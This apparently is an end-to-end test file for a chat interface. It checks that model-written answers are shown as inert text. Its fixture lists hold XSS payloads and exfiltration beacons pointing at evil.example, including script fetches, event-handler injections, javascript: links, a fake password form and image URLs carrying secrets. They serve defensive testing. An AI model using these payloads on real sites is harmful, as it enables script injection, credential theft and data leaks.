"""What a model writes is hostile until proven otherwise: nothing runs, nothing is loaded, all is shown as text."""

import pytest
from playwright.async_api import expect

from tests.e2e.conftest import Desk

pytestmark = pytest.mark.long

SCRIPTS = [
    "<script>fetch('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1)) [y](java\tscript:alert(1)) [z](data:text/html,<script>alert(1)</script>)",
    '<button hx-post="/logout" hx-trigger="load">x</button>',
    '<div hx-get="/settings" hx-trigger="load" data-hx-get="/settings">x</div>',
    '<hx-partial hx-target="#main" hx-swap="outerHTML">gone</hx-partial>',
    '</div></article><form action="//evil.example"><input name=password>',
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\style{color:red}{y}\\)",
    "```html\n<script>alert(1)</script>\n```",
    "<scr",
]
BEACONS = [
    "![a](https://evil.example/p.png?q=SECRET)",
    "![a][r]\n\n[r]: https://evil.example/2",
    '<img srcset="https://evil.example/s.png 2x">',
    '<video poster="https://evil.example/v.png"></video>',
    '<link rel=preload href="https://evil.example/l" as=image>',
    '<p style="background:url(https://evil.example/b)">x</p>',
    "![](//evil.example/3)",
    "![](data:image/svg+xml,<svg/onload=alert(1)>)",
]


@pytest.mark.parametrize("answers", [SCRIPTS, BEACONS], ids=["scripts", "beacons"])
async def test_nothing_runs_and_nothing_is_loaded(desk: Desk, answers: list[str]) -> None:
    """REN-01, REN-02: live, after a reload, and in a title. The fixture fails on any foreign request or dialog."""
    desk.engine.script = [piece for text in answers for piece in (text[:7], text[7:], "\n\n")]
    await desk.ask(f"Repeat: {answers[0]}")
    await _nothing_happened(desk)

    await desk.page.reload()

    await _nothing_happened(desk)
    await expect(desk.answers).to_contain_text("evil.example")


async def _nothing_happened(desk: Desk) -> None:
    await desk.page.wait_for_timeout(500)
    inside = desk.page.locator("article .prose, article .bubble, #conversations")
    for forbidden in ("script", "img", "iframe", "svg:not(.icon)", "form", "style", "video", "link", "[hx-get]"):
        assert await inside.locator(forbidden).count() == 0, forbidden
    assert await desk.page.evaluate("[...document.querySelectorAll('.prose *')].every(e => [...e.attributes].every("
                                    "a => !/^(on|hx-|data-hx|style)/.test(a.name)))")  # fmt: skip
    for link in await desk.page.locator(".prose a").all():
        assert (await link.get_attribute("href") or "").startswith(("https://", "http://", "mailto:", "#fn-"))
    await expect(desk.page.locator("#main")).to_be_visible()


async def test_a_formula_is_a_formula_and_money_is_money(desk: Desk) -> None:
    """REN-05"""
    desk.engine.script = ("Q1 ($100K), Q2 ($115K), total $215K; use $PATH and ~$0.79/m³\n\n$$\\frac{a}{b}$$",)

    answer = await desk.ask("Numbers")

    await expect(answer).to_contain_text("Q1 ($100K), Q2 ($115K), total $215K; use $PATH and ~$0.79/m³")
    await expect(answer.locator("math")).to_have_count(1)
    await expect(answer.locator("mfrac")).to_have_count(1)


async def test_an_open_fence_does_not_swallow_the_page(desk: Desk) -> None:
    """REN-04"""
    desk.engine.plan(("```python\nx = 1\n# no end",), ("Fine.",))
    await desk.ask("Code")

    second = await desk.ask("And?")

    await expect(second).to_contain_text("Fine.")
    await expect(desk.box).to_be_visible()
    await expect(desk.answers.first.locator("figure.code")).to_have_count(1)


async def test_family_emoji_cut_by_the_network_is_one_sign(desk: Desk) -> None:
    """STR-01: in the browser"""
    from tests.fakes.engine import END, T, cut_at

    raw = T("Grüße 漢字 👩\u200d👩\u200d👧\u200d👦 🌍") + END
    desk.engine.script = cut_at([raw[i : i + 5] for i in range(0, len(raw), 5)], 0.002)

    answer = await desk.ask("Emoji")

    await expect(answer.locator(".prose")).to_have_text("Grüße 漢字 👩\u200d👩\u200d👧\u200d👦 🌍")
